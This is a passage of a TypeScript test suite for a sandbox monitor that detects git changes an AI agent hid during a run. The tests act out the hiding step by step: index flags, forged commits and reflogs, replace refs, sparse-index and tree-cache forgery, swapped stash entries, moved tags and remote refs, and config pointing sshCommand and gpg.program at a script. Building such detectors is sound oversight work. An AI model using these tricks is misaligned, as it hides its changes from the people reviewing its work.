  if (how === 'staged') stdin('update-index', '-z', '--stdin');
}
const HIDDEN: Hide[] = ['skip-worktree', 'assume-unchanged', 'forged-stat'];

t.test('a tracked file changed during the run that git status does not show (index flags, a forged index entry, a replace ref) is named', async (t) => {
  const repo = tempDir(t, 'hunt20-sandbox-git-');
  const files = ['app.py', 'util.py', 'lib/db.py', 'cfg.py', 'other.py', 'sparse.py', 'same.py'];
  for (const f of files) writer(repo)(f, `print(${JSON.stringify(f)})\n`);
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  git(repo, 'update-index', '--skip-worktree', 'sparse.py'); // the user's, before the run
  // Controls: what git stores in another form than the file (line ends made LF, Git LFS's pointer).
  git(repo, 'config', 'core.autocrlf', 'input');
  git(repo, 'config', 'filter.lfs.clean', 't=$(mktemp); cat > "$t"; printf "version https://git-lfs.github.com/spec/v1\\noid sha256:%s\\nsize %s\\n" "$(sha256sum < "$t" | cut -d" " -f1)" "$(wc -c < "$t" | tr -d " ")"; rm "$t"');
  git(repo, 'config', 'filter.lfs.smudge', 'cat');
  writer(repo)('.gitattributes', '*.bin filter=lfs\n');
  git(repo, 'add', '.gitattributes');
  git(repo, 'commit', '-qm', 'attributes');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
  t.same(named(), [], 'control: nothing changed, nothing named');

  agentHides(repo, 'app.py', 'skip-worktree');
  agentHides(repo, 'util.py', 'assume-unchanged');
  agentHides(repo, 'lib/db.py', 'forged-stat');
  agentHides(repo, 'cfg.py', 'shown'); // git status shows it
  agentHides(repo, 'other.py', 'staged'); // git status shows it staged
  writer(repo)('crlf.py', 'print(1)\r\nprint(2)\r\n');
  writer(repo)('model.bin', 'weights');
  git(repo, 'add', 'crlf.py', 'model.bin');
  t.ok(git(repo, 'ls-files', '-s', 'model.bin') !== '' && !git(repo, 'cat-file', '-p', `:model.bin`).includes('weights'), 'control: the LFS stand-in stores a pointer');
  // Marked during the run, content as committed: nothing hidden.
  fs.writeFileSync(path.join(repo, 'same.py'), fs.readFileSync(path.join(repo, 'same.py')));
  git(repo, 'update-index', '--assume-unchanged', 'same.py');
  t.same(git(repo, 'status', '--porcelain').split('\n').filter(Boolean).sort(), [' M cfg.py', 'A  crlf.py', 'A  model.bin', 'M  other.py'], 'the attack: git status shows only the visible changes');
  t.equal(git(repo, 'diff', 'HEAD', '--name-only').trim().split('\n').sort().join(' '), 'cfg.py crlf.py model.bin other.py', 'and git diff HEAD the same');
  t.same(named(), ['app.py', 'lib/db.py', 'util.py'], 'each hidden change is named, the visible and unchanged ones are not');
  const why = plantedSince(since, '', repo).planted.find((f) => f.path === path.join(repo, 'app.py'))?.why ?? '';
  t.match(why, /skip-worktree.*git status/, 'the reason names the mark and what it hides');

  // A replace ref: HEAD reads as a commit of the agent's whose tree holds its change, the index
  // matching it, so git status, git diff HEAD and git log show nothing.
  git(repo, 'update-index', '--no-skip-worktree', 'app.py');
  git(repo, 'update-index', '--no-assume-unchanged', 'util.py', 'same.py');
  git(repo, 'checkout', '-q', '--', '.');
  git(repo, 'reset', '-q', '--hard');
  const since2 = await tick();
  const head = git(repo, 'rev-parse', 'HEAD').trim();
  fs.writeFileSync(path.join(repo, 'app.py'), 'import os; os.system("touch $MARK")\n');
  git(repo, 'add', 'app.py');
  const tree = git(repo, 'write-tree').trim();
  const commit = git(repo, 'cat-file', 'commit', head).replace(/^tree .*/m, `tree ${tree}`);
  const forged = execFileSync('git', ['hash-object', '-t', 'commit', '-w', '--stdin'], { cwd: repo, env: GIT_ENV, input: commit, encoding: 'utf8' }).trim();
  git(repo, 'replace', head, forged);
  t.equal(git(repo, 'status', '--porcelain'), '', 'the attack: git status is clean');
  t.equal(git(repo, 'rev-parse', 'HEAD').trim(), head, 'and HEAD is the same commit id');
  const after = plantedSince(since2, '', repo).planted;
  t.ok(after.some((f) => f.path === path.join(repo, '.git', 'refs', 'replace') && /replace/.test(f.why)), `the replace ref is named (${after.map((f) => f.path).join(', ')})`);
  git(repo, 'replace', '-d', head);
  t.equal(git(repo, 'status', '--porcelain').trim(), 'M  app.py', 'what it hid');
});

t.test('twenty-second pass: a branch rewritten during the run to a look-alike of its last commit (reflog too) is named; new commits on top are not', async (t) => {
  const repo = tempDir(t, 'hunt22-sandbox-rewrite-');
  writer(repo)('app.py', 'print("app")\n');
  writer(repo)('util.py', 'print("util")\n');
  git(repo, 'init', '-q', '-b', 'main');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  writer(repo)('util.py', 'print("util 2")\n');
  git(repo, 'commit', '-qam', 'the user\'s last commit');
  git(repo, 'branch', 'feature');
  const before = refTips(repo);
  const log = (): string => git(repo, 'log', '--format=%an %ad %cd %s', '--date=raw');
  const shownLog = log();

  // Controls: the agent's own new commit on top, and a branch it makes, are in git log as they are.
  writer(repo)('new.py', 'print(1)\n');
  git(repo, 'add', 'new.py');
  git(repo, 'commit', '-qm', 'agent: add new.py');
  git(repo, 'branch', 'agent-branch');
  t.same(rewrittenRefs(before), [], 'control: commits on top and a new branch are not named');

  // The attack: the user's last commit made again with the agent's change in its tree (the same
  // parent, author, dates and message), put on main, and the reflogs' ids swapped for it.
  const before2 = refTips(repo);
  git(repo, 'reset', '-q', '--hard', 'HEAD~1');
  const last = git(repo, 'rev-parse', 'HEAD').trim();
  writer(repo)('app.py', 'import os; os.system("touch $MARK")\n');
  git(repo, 'add', 'app.py');
  const tree = git(repo, 'write-tree').trim();
  const commit = git(repo, 'cat-file', 'commit', last).replace(/^tree .*/m, `tree ${tree}`);
  const forged = execFileSync('git', ['hash-object', '-t', 'commit', '-w', '--stdin'], { cwd: repo, env: GIT_ENV, input: commit, encoding: 'utf8' }).trim();
  git(repo, 'update-ref', 'refs/heads/main', forged);
  git(repo, 'update-ref', 'refs/heads/feature', forged);
  for (const f of ['logs/HEAD', 'logs/refs/heads/main', 'logs/refs/heads/feature']) {
    const p = path.join(repo, '.git', f);
    fs.writeFileSync(p, fs.readFileSync(p, 'utf8').split('\n').filter((l) => !l.includes(forged) && !/agent|reset/.test(l)).join('\n').replaceAll(last, forged));
  }
  t.equal(git(repo, 'status', '--porcelain'), '', 'the attack: git status is clean');
  t.equal(git(repo, 'diff', 'HEAD'), '', 'and git diff HEAD');
  t.equal(log(), shownLog, 'and git log reads as before the run');
  t.notMatch(git(repo, 'reflog', '--format=%H'), new RegExp(last), 'and the reflog never held the real commit');
  const named = rewrittenRefs(before2);
  t.same(named.map((h) => path.relative(path.join(repo, '.git'), h.path)).sort(), ['refs/heads/feature', 'refs/heads/main'], 'each branch moved off its history is named (HEAD, which moved with main, once)');
  t.match(named.find((h) => h.path.endsWith('main'))?.why ?? '', new RegExp(`branch main was .*git diff ${before2[0]!.tips.get('refs/heads/main')!.slice(0, 12)} main`), 'with how to see what changed');
  t.match(git(repo, 'diff', before2[0]!.tips.get('refs/heads/main')!, 'main', '--name-only'), /app\.py/, 'which shows the hidden change');
});

t.test('twenty-second pass: a change hidden under a sparse directory entry of git\'s index (made with a copy of the git folder) is named', async (t) => {
  const repo = tempDir(t, 'hunt22-sandbox-sparse-');
  for (const f of ['lib/x.py', 'lib/deep/z.py', 'src/y.py', 'top.py']) writer(repo)(f, `print(${JSON.stringify(f)})\n`);
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  const since = await tick();
  // Inside, .git/info and the config are read-only: the agent copies the git folder, writes the
  // patterns there, makes a sparse index with it and puts that index in place; then changes lib/.
  const copy = path.join(tempDir(t, 'hunt22-sandbox-sparse-copy-'), 'g');
  fs.cpSync(path.join(repo, '.git'), copy, { recursive: true });
  fs.writeFileSync(path.join(copy, 'info', 'sparse-checkout'), '/*\n!/*/\n/src/\n');
  execFileSync('git', ['-c', 'core.sparseCheckout=true', '-c', 'core.sparseCheckoutCone=true', '-c', 'index.sparse=true', 'read-tree', '-mu', 'HEAD'], { cwd: repo, env: { ...GIT_ENV, GIT_DIR: copy, GIT_WORK_TREE: repo } });
  fs.copyFileSync(path.join(copy, 'index'), path.join(repo, '.git', 'index'));
  writer(repo)('lib/x.py', 'import os; os.system("touch $MARK")\n');
  writer(repo)('lib/deep/z.py', 'import os\n');
  // Read as airlock run reads it, before any git of the host writes the index again.
  const named = plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
  const index = fs.readFileSync(path.join(repo, '.git', 'index'));
  t.ok(index.includes('sdir') && index.includes('lib/\0'), 'control: the index holds lib/ as a sparse directory entry');
  t.equal(git(repo, '--no-optional-locks', 'status', '--porcelain'), '', 'the attack: git status is clean');
  t.equal(git(repo, '--no-optional-locks', 'diff', 'HEAD'), '', 'and git diff HEAD');
  t.same(named, ['lib/deep/z.py', 'lib/x.py'], 'each changed file under the sparse entry is named');
});

// Twenty-second pass: git's cache of trees in the index (`TREE`), rewritten to name HEAD's trees.
const FORGE_TREE = `
import hashlib, struct, sys
index, nodes = sys.argv[1], sys.argv[2:]
b = bytearray(open(index, 'rb').read()[:-20])
i = b.find(b'TREE', 12)
ln = struct.unpack('>I', b[i + 4:i + 8])[0]
body = b''
for n in nodes:  # path:entries:subtrees:oid, in git's order
    name, cnt, sub, oid = n.split(':')
    body += name.encode() + b'\\0' + ('%s %s\\n' % (cnt, sub)).encode() + bytes.fromhex(oid)
b = b[:i] + b'TREE' + struct.pack('>I', len(body)) + body + b[i + 8 + ln:]
open(index, 'wb').write(bytes(b) + hashlib.sha1(bytes(b)).digest())
`;

t.test('twenty-second pass: a staged change hidden by git\'s cache of trees in the index (forged to name HEAD\'s trees) is named; the agent\'s own writes are not', async (t) => {
  const repo = tempDir(t, 'hunt22-sandbox-cachetree-');
  for (const f of ['lib/x.py', 'lib/deep/z.py', 'top.py', 'run.sh']) writer(repo)(f, `print(${JSON.stringify(f)})\n`);
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  const since = await tick();
  // Controls: the agent's own staged change and commit, each with the cache git writes itself.
  writer(repo)('top.py', 'print("agent")\n');
  git(repo, 'add', 'top.py');
  git(repo, 'write-tree');
  git(repo, 'commit', '-qm', 'agent');
  writer(repo)('run.sh', 'echo staged\n');
  git(repo, 'add', 'run.sh');
  git(repo, 'write-tree');
  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
  t.same(named(), [], 'control: the cache of trees git writes names nothing');
  git(repo, 'reset', '-q', '--hard');
  const rev = (r: string): string => git(repo, 'rev-parse', r).trim();
  // The attack: a change staged, then every tree of the cache named as HEAD's.
  writer(repo)('lib/deep/z.py', 'import os; os.system("touch $MARK")\n');
  git(repo, 'add', 'lib/deep/z.py');
  execFileSync('python3', ['-c', FORGE_TREE, path.join(repo, '.git', 'index'), `:4:1:${rev('HEAD^{tree}')}`, `lib:2:1:${rev('HEAD:lib')}`, `deep:1:0:${rev('HEAD:lib/deep')}`]);
  const found = named();
  t.equal(git(repo, '--no-optional-locks', 'status', '--porcelain'), '', 'the attack: git status is clean');
  t.equal(git(repo, '--no-optional-locks', 'diff', 'HEAD'), '', 'and git diff HEAD');
  t.same(found, ['lib/deep'], 'the folder whose recorded tree is not the index\'s is named (the deepest: those above differ with it)');
});

/** The agent's look-alike of a repository's last commit (the same parent, author, dates and message, its change in the tree), put on the branch checked out. */
function lookAlike(repo: string, rel: string): void {
  const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
  const last = git(repo, 'rev-parse', 'HEAD').trim();
  fs.writeFileSync(path.join(repo, rel), 'import os; os.system("touch $MARK")\n');
  git(repo, 'add', rel);
  const tree = git(repo, 'write-tree').trim();
  const commit = git(repo, 'cat-file', 'commit', last).replace(/^tree .*/m, `tree ${tree}`);
  const forged = execFileSync('git', ['hash-object', '-t', 'commit', '-w', '--stdin'], { cwd: repo, env: GIT_ENV, input: commit, encoding: 'utf8' }).trim();
  git(repo, 'update-ref', `refs/heads/${branch}`, forged);
}

t.test('twenty-second pass (follow-up): a look-alike commit put in place of the last one in a submodule or a nested repository during the run is named; commits on top are not', async (t) => {
  const base = tempDir(t, 'hunt22b-sandbox-nested-');
  const lib = path.join(base, 'lib');
  const repo = path.join(base, 'app');
  const twoCommits = (dir: string, rel: string): void => {
    writer(dir)(rel, 'x = 1\n');
    git(dir, 'init', '-q', '-b', 'main');
    git(dir, 'add', '.');
    git(dir, 'commit', '-qm', 'first');
    writer(dir)(rel, 'x = 2\n');
    git(dir, 'commit', '-qam', 'the user\'s last commit');
  };
  twoCommits(lib, 'lib.py');
  writer(repo)('app.py', 'import lib\n');
  writer(repo)('.gitignore', 'vendor/\n');
  git(repo, 'init', '-q', '-b', 'main');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'app');
  git(repo, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib, 'sub');
  git(repo, 'commit', '-qm', 'sub');
  const tool = path.join(repo, 'vendor', 'tool');
  twoCommits(tool, 'tool.py'); // a nested repository of its own, ignored by the outer one
  const before = refTips(repo);
  // Controls: a commit on top in each is in git log as it is.
  writer(tool)('more.py', 'y = 1\n');
  git(tool, 'add', 'more.py');
  git(tool, 'commit', '-qm', 'agent: more');
  git(path.join(repo, 'sub'), 'commit', '-q', '--allow-empty', '-m', 'agent: empty');
  t.same(rewrittenRefs(before), [], 'control: commits on top are not named');

  // The nested repositories found once for a run (twenty-third pass, follow-up: one walk, shared
  // with the read-only binds) give the same tips as refTips' own walk.
  const before2 = refTips(repo, nestedRepositories(repo, 64));
  t.same(before2.map((r) => r.gitDir), refTips(repo).map((r) => r.gitDir), 'the shared walk finds the same repositories');
  t.ok(before2.some((r) => r.gitDir === path.join(tool, '.git')), 'the nested one among them');
  const toolLog = git(tool, 'log', '--format=%an %ad %s', '--date=raw');
  lookAlike(tool, 'more.py');
  lookAlike(path.join(repo, 'sub'), 'lib.py');
  t.equal(git(tool, 'status', '--porcelain'), '', 'the attack: the nested repository\'s git status is clean');
  t.equal(git(tool, 'log', '--format=%an %ad %s', '--date=raw'), toolLog, 'and its git log reads as before');
  t.equal(git(path.join(repo, 'sub'), 'status', '--porcelain'), '', 'and the submodule\'s status is clean');
  const named = rewrittenRefs(before2).map((h) => path.relative(base, h.path)).sort();
  t.same(named, ['app/.git/modules/sub/refs/heads/main', 'app/vendor/tool/.git/refs/heads/main'], 'the branch moved off its history in each is named');
});

t.test('twenty-second pass: an ignored source file beside tracked sources (setuptools_scm\'s _version.py, local_settings.py) changed during the run is named; build outputs by their folder, logs not', async (t) => {
  const repo = tempDir(t, 'hunt22-sandbox-ignored-');
  const write = writer(repo);
  write('.gitignore', '_version.py\nlocal_settings.py\ndist/\n*.log\n');
  write('pkg/__init__.py', 'from ._version import version\n');
  write('pkg/_version.py', 'version = "1.0"\n'); // written by setuptools_scm at install, ignored
  write('settings.py', 'try:\n    from local_settings import *\nexcept ImportError:\n    pass\n');
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  const since = await tick();
  const mark = path.join(repo, 'IMPORT-RAN');
  write('pkg/_version.py', `version = "1.0"\nopen(${JSON.stringify(mark)}, "w").close()\n`);
  write('local_settings.py', 'DEBUG = True\n');
  write('dist/app.js', 'console.log(1)\n'); // the agent's build
  write('dist/lib/util.js', 'module.exports = 1\n');
  write('test.log', 'ok\n');
  const named = plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
  t.equal(git(repo, 'status', '--porcelain'), '', 'the attack: git status is clean');
  spawnSync('python3', ['-c', 'import pkg'], { cwd: repo, stdio: 'ignore', timeout: 10_000 });
  t.ok(fs.existsSync(mark), 'and the host\'s next import of the package runs the agent\'s code');
  // The build output as one line for its folder (twenty-third pass, follow-up: the host runs it).
  t.same(named, ['dist', 'local_settings.py', 'pkg/_version.py'], 'the ignored sources beside tracked ones are named, the build output by its folder; the log is not');
});

t.test('twenty-second pass (follow-up): the tips of a nested repository whose config the agent wrote (a partial clone, signatures shown) are read without running its programs', async (t) => {
  const repo = tempDir(t, 'hunt22b-sandbox-nestedcfg-');
  const mark = path.join(repo, 'RAN-ON-HOST');
  const evil = writer(repo)('tool.sh', `#!/bin/sh\ntouch ${mark}\nexit 1\n`);
  writer(repo)('app.py', 'print(1)\n');
  git(repo, 'init', '-q', '-b', 'main');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'app');
  const nested = path.join(repo, 'libs', 'x');
  writer(nested)('x.py', 'x = 1\n');
  git(nested, 'init', '-q', '-b', 'main');
  git(nested, 'add', '.');
  git(nested, 'commit', '-qm', 'x');
  writer(nested)('x.py', 'x = 2\n');
  git(nested, 'stash', 'push', '-q');
  const before = refTips(repo);
  // The agent: the nested repository made a partial clone of an ssh remote whose command is its
  // script, signatures shown with its script as gpg, a signed stash entry in place of the user's
  // and the branch put on a commit that is not in the store (git fetches it on its own).
  for (const [k, v] of [['core.repositoryformatversion', '1'], ['extensions.partialClone', 'origin'], ['remote.origin.url', 'ssh://example.invalid/x'], ['remote.origin.promisor', 'true'], ['core.sshCommand', evil], ['log.showSignature', 'true'], ['gpg.program', evil]]) git(nested, 'config', k!, v!);
  const real = git(nested, 'rev-parse', 'stash@{0}').trim();
  const signed = git(nested, 'cat-file', 'commit', real).replace(/^(committer .*)$/m, '$1\ngpgsig -----BEGIN PGP SIGNATURE-----\n x\n -----END PGP SIGNATURE-----');
  const forged = execFileSync('git', ['hash-object', '-t', 'commit', '-w', '--stdin'], { cwd: nested, env: GIT_ENV, input: signed, encoding: 'utf8' }).trim();
  const log = path.join(nested, '.git', 'logs', 'refs', 'stash');
  fs.writeFileSync(log, fs.readFileSync(log, 'utf8').replaceAll(real, forged));
  fs.writeFileSync(path.join(nested, '.git', 'refs', 'stash'), `${forged}\n`);
  fs.writeFileSync(path.join(nested, '.git', 'refs', 'heads', 'main'), `${'1'.repeat(40)}\n`);
  const named = rewrittenRefs(before).map((h) => path.relative(repo, h.path));
  t.notOk(fs.existsSync(mark), 'nothing of the agent\'s ran on the host');
  t.ok(named.includes('libs/x/.git/logs/refs/stash'), 'the replaced stash entry is named');
});

t.test('twenty-second pass (follow-up): another worktree\'s detached HEAD moved to a look-alike commit during the run is named', async (t) => {
  const base = tempDir(t, 'hunt22b-sandbox-wthead-');
  const main = path.join(base, 'main');
  const other = path.join(base, 'review');
  writer(main)('app.py', 'print("app")\n');
  git(main, 'init', '-q', '-b', 'main');
  git(main, 'add', '.');
  git(main, 'commit', '-qm', 'the user\'s release');
  git(main, 'worktree', 'add', '-q', '--detach', other);
  const before = refTips(main);
  git(main, 'commit', '-q', '--allow-empty', '-m', 'agent: empty');
  t.same(rewrittenRefs(before), [], 'control: a commit on top in the working directory is not named');
  // The attack, from the main worktree: the other one's HEAD moved to a look-alike with the agent's
  // change, its index and file to match.
  const last = git(other, 'rev-parse', 'HEAD').trim();
  fs.writeFileSync(path.join(other, 'app.py'), 'import os; os.system("touch $MARK")\n');
  git(other, 'add', 'app.py');
  const tree = git(other, 'write-tree').trim();
  const forged = execFileSync('git', ['hash-object', '-t', 'commit', '-w', '--stdin'], { cwd: main, env: GIT_ENV, input: git(main, 'cat-file', 'commit', last).replace(/^tree .*/m, `tree ${tree}`), encoding: 'utf8' }).trim();
  fs.writeFileSync(path.join(main, '.git', 'worktrees', 'review', 'HEAD'), `${forged}\n`);
  t.equal(git(other, 'status', '--porcelain'), '', 'the attack: git status in the other worktree is clean');
  t.same(rewrittenRefs(before).map((h) => path.relative(path.join(main, '.git'), h.path)), ['worktrees/review/HEAD'], 'its HEAD is named');
});

t.test('twenty-second pass (follow-up): a stash entry replaced by a look-alike and a tag moved during the run are named; the agent\'s own stash and tags are not', async (t) => {
  const repo = tempDir(t, 'hunt22b-sandbox-stash-');
  writer(repo)('app.py', 'print("app")\n');
  git(repo, 'init', '-q', '-b', 'main');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  git(repo, 'tag', 'v1');
  writer(repo)('app.py', 'print("the user\'s work in progress")\n');
  git(repo, 'stash', 'push', '-q');
  const before = refTips(repo);
  // Controls: the agent stashes and pops its own change, tags its own commit.
  writer(repo)('app.py', 'print("agent")\n');
  git(repo, 'stash', 'push', '-q');
  git(repo, 'stash', 'pop', '-q');
  git(repo, 'checkout', '-q', 'app.py');
  git(repo, 'commit', '-q', '--allow-empty', '-m', 'agent: empty');
  git(repo, 'tag', 'agent-v2');
  t.same(rewrittenRefs(before), [], 'control: the agent\'s own stash and a new tag are not named');

  // The attack: the user's stash entry made again with the agent's change in its working-tree
  // commit (the same parents, author, dates and message), swapped into the stash and its reflog.
  const real = git(repo, 'rev-parse', 'stash@{0}').trim();
  const tree = git(repo, 'rev-parse', `${real}^{tree}`).trim();
  const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], { cwd: repo, env: GIT_ENV, input: 'print("the user\'s work in progress")\nimport os; os.system("touch $MARK")\n', encoding: 'utf8' }).trim();
  const listing = git(repo, 'ls-tree', tree).replace(/blob [0-9a-f]+\tapp\.py/, `blob ${blob}\tapp.py`);
  const newTree = execFileSync('git', ['mktree'], { cwd: repo, env: GIT_ENV, input: listing, encoding: 'utf8' }).trim();
  const forged = execFileSync('git', ['hash-object', '-t', 'commit', '-w', '--stdin'], { cwd: repo, env: GIT_ENV, input: git(repo, 'cat-file', 'commit', real).replace(/^tree .*/m, `tree ${newTree}`), encoding: 'utf8' }).trim();
  const log = path.join(repo, '.git', 'logs', 'refs', 'stash');
  fs.writeFileSync(log, fs.readFileSync(log, 'utf8').replaceAll(real, forged));
  fs.writeFileSync(path.join(repo, '.git', 'refs', 'stash'), `${forged}\n`);
  git(repo, 'tag', '-f', 'v1', 'HEAD');
  t.match(git(repo, 'stash', 'list'), /^stash@\{0\}: WIP on main: [0-9a-f]+ init\n$/, 'the attack: git stash list reads as before');
  const named = rewrittenRefs(before);
  t.same(named.map((h) => path.relative(path.join(repo, '.git'), h.path)).sort(), ['logs/refs/stash', 'refs/tags/v1'], 'the replaced stash entry and the moved tag are named');
  t.match(named.find((h) => h.path.endsWith('stash'))?.why ?? '', new RegExp(`stash entry ${real.slice(0, 12)}`), 'with the entry it had');
  git(repo, 'stash', 'pop', '-q');
  t.match(fs.readFileSync(path.join(repo, 'app.py'), 'utf8'), /touch \$MARK/, 'and the user\'s next git stash pop puts the agent\'s change in the working tree as the user\'s own');
});

t.test('twenty-second pass (follow-up): a source file changed in a folder git ignores whole beside tracked sources (generated code the project imports) is named; builds by their folder; environments and data are not', async (t) => {
  const repo = tempDir(t, 'hunt22b-sandbox-ignored-dir-');
  const write = writer(repo);
  write('.gitignore', 'generated/\nbuild/\ntools-env/\ndata/\n');
  write('app.py', 'from generated import api_pb2\n');
  write('generated/__init__.py', '');
  write('generated/api_pb2.py', 'X = 1\n'); // protoc's output, ignored whole
  write('generated/old_pb2.py', 'Y = 1\n');
  write('tools-env/pyvenv.cfg', 'home = /usr/bin\n');
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  const since = await tick();
  const mark = path.join(repo, 'IMPORT-RAN');
  write('generated/api_pb2.py', `X = 1\nopen(${JSON.stringify(mark)}, "w").close()\n`);
  write('generated/v2/deep_pb2.py', 'Z = 1\n');
  // A repository of the agent's own made in a sub-folder, its change committed: its git status is clean too.
  write('generated/v3/more_pb2.py', 'W = 1\n');
  git(path.join(repo, 'generated', 'v3'), 'init', '-q');
  git(path.join(repo, 'generated', 'v3'), 'add', '.');
  git(path.join(repo, 'generated', 'v3'), 'commit', '-qm', 'gen');
  write('generated/schema.json', '{}\n'); // no source
  write('build/lib/app.py', 'print(1)\n'); // the agent's build
  write('tools-env/share/jupyter/x.py', 'print(1)\n'); // an environment
  write('data/rows.csv', 'a,b\n');
  const named = plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
  t.equal(git(repo, 'status', '--porcelain'), '', 'the attack: git status is clean');
  spawnSync('python3', ['app.py'], { cwd: repo, stdio: 'ignore', timeout: 10_000 });
  t.ok(fs.existsSync(mark), 'and the host\'s next run of the project runs the agent\'s code');
  t.same(named, ['build', 'generated/api_pb2.py', 'generated/v2/deep_pb2.py', 'generated/v3/.git', 'generated/v3/more_pb2.py'], 'the changed sources in the ignored folder are named, the build by its folder (twenty-third pass, follow-up); the environment, the data and the untouched sources are not');
});

t.test('twenty-second pass: a commit put on a branch and on its remote-tracking ref during the run (git status: up to date) is named; a commit ahead or a fetch is not', async (t) => {
  const origin = tempDir(t, 'hunt22-sandbox-origin-');
  const repo = path.join(tempDir(t, 'hunt22-sandbox-clone-'), 'app');
  git(origin, 'init', '-q', '--bare', '-b', 'main');
  git(path.dirname(repo), 'clone', '-q', origin, repo);
  writer(repo)('app.py', 'print(1)\n');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'first');
  git(repo, 'push', '-q', 'origin', 'main');
  const before = refTips(repo);
  const originBefore = git(repo, 'rev-parse', 'refs/remotes/origin/main').trim();
  // Controls: the agent's commit, ahead of origin/main (git status says so), and a fetch.
  writer(repo)('app.py', 'print(2)\n');
  git(repo, 'commit', '-qam', 'agent');
  t.match(git(repo, 'status', '-sb'), /ahead 1/, 'control: git status says the branch is ahead');
  t.same(rewrittenRefs(before), [], 'control: a commit ahead is not named');
  const other = path.join(path.dirname(repo), 'other');
  git(path.dirname(repo), 'clone', '-q', origin, other);
  writer(other)('b.py', 'print(3)\n');
  git(other, 'add', '.');
  git(other, 'commit', '-qm', 'someone else');
  git(other, 'push', '-q', 'origin', 'main');
  git(repo, 'fetch', '-q');
  t.same(rewrittenRefs(before), [], 'control: a fetch (origin/main moved elsewhere) is not named');
  git(repo, 'reset', '-q', '--hard', 'HEAD~1');
  git(repo, 'update-ref', 'refs/remotes/origin/main', originBefore);
  // The attack: the commit, dated as the user's last, and origin/main moved to it without a push.
  writer(repo)('app.py', 'import os; os.system("touch $MARK")\n');
  execFileSync('git', ['commit', '-qam', 'first (fixup)'], { cwd: repo, env: { ...GIT_ENV, GIT_COMMITTER_DATE: '2020-01-01T00:00:00Z', GIT_AUTHOR_DATE: '2020-01-01T00:00:00Z' } });
  git(repo, 'update-ref', 'refs/remotes/origin/main', 'HEAD');
  t.match(git(repo, 'status', '-sb'), /^## main\.\.\.origin\/main\n$/, 'the attack: git status says up to date, nothing to commit');
  const named = rewrittenRefs(before);
  t.same(named.map((h) => path.basename(h.path)), ['main'], 'the branch is named');
  t.match(named[0]?.why ?? '', /origin\/main both moved .*git log -p/, 'with the remote-tracking ref and how to review');
});

t.test('property: a change hidden from git status by any means, at any depth, in any index version, under any name (in no UTF-8 too), is named; visible ones are not', async (t) => {
  const hows: Hide[] = [...HIDDEN, 'shown', 'staged', 'untouched'];
  await fc.assert(fc.asyncProperty(
    fc.constantFrom(2, 3, 4),
    fc.array(fc.record({ dir: fc.array(fc.constantFrom('src', 'a', 'deep', 'pkg'), { maxLength: 3 }), how: fc.constantFrom(...hows), raw: fc.constantFrom(undefined, undefined, 'ff', '636166e9') }), { minLength: 1, maxLength: 5 }),
    async (version, plan) => {
      const repo = fs.mkdtempSync(path.join(path.dirname(tempDir(t, 'hunt20-sandbox-gitp-')), 'hunt20-sandbox-gitp-'));
      try {
        const rels = plan.map((p, i) => path.join(...p.dir, `m${i}.py`));
        for (const r of rels) writer(repo)(r, `x = ${JSON.stringify(r)}\n`);
        // Twenty-second pass: a folder named in no UTF-8 (one byte 0xff, or Latin-1's é), made as bytes.
        const raw = plan.map((p, i) => p.raw ? rawName(repo, rels[i]!, p.raw) : undefined);
        git(repo, 'init', '-q');
        git(repo, 'add', '.');
        git(repo, 'commit', '-qm', 'init');
        git(repo, 'update-index', '--index-version', String(version));
        const since = await tick();
        plan.forEach((p, i) => raw[i] ? agentHidesRaw(repo, raw[i]!, p.how) : agentHides(repo, rels[i]!, p.how));
        const named = plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
        const expected = rels.map((r, i) => raw[i] ? Buffer.from(raw[i]!, 'latin1').toString('utf8') : r).filter((_, i) => HIDDEN.includes(plan[i]!.how)).sort();
        return JSON.stringify(named) === JSON.stringify(expected);
      } finally {
        fs.rmSync(repo, { recursive: true, force: true });
      }
    },
  ), {
    numRuns: process.env.AIRLOCK_FUZZ_RUNS ? numRuns : 5, seed,
    // Twenty-second pass: tracked names in no UTF-8, each way of hiding (fails without the fix).
    examples: [[4, [{ dir: [], how: 'skip-worktree', raw: 'ff' }, { dir: ['src'], how: 'forged-stat', raw: '636166e9' }, { dir: [], how: 'assume-unchanged', raw: '636166e9' }, { dir: ['a'], how: 'shown', raw: 'ff' }]]],
  });
});

t.test('a Python extension module made beside Python sources during the run is named; installed packages\' are not', async (t) => {
  const work = tempDir(t, 'hunt20-sandbox-so-');
  const write = writer(work);
  write('main.py', 'import util\n');
  write('util.py', 'def f(): pass\n');
  write('native/build.so', 'old'); // a library of the project's, no Python beside it
  write('.venv/pyvenv.cfg', 'home = /usr/bin\n');
  write('.venv/lib/python3.11/site-packages/numpy/core/x.py', '');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
  t.same(named(), [], 'control');
  const suffix = execFileSync('python3', ['-c', 'import sysconfig; print(sysconfig.get_config_var("EXT_SUFFIX"))'], { encoding: 'utf8' }).trim();
  const include = execFileSync('python3', ['-c', 'import sysconfig; print(sysconfig.get_paths()["include"])'], { encoding: 'utf8' }).trim();
  const so = path.join(work, `util${suffix}`);
  // The agent's: a real extension module named util, which runs its code when imported.
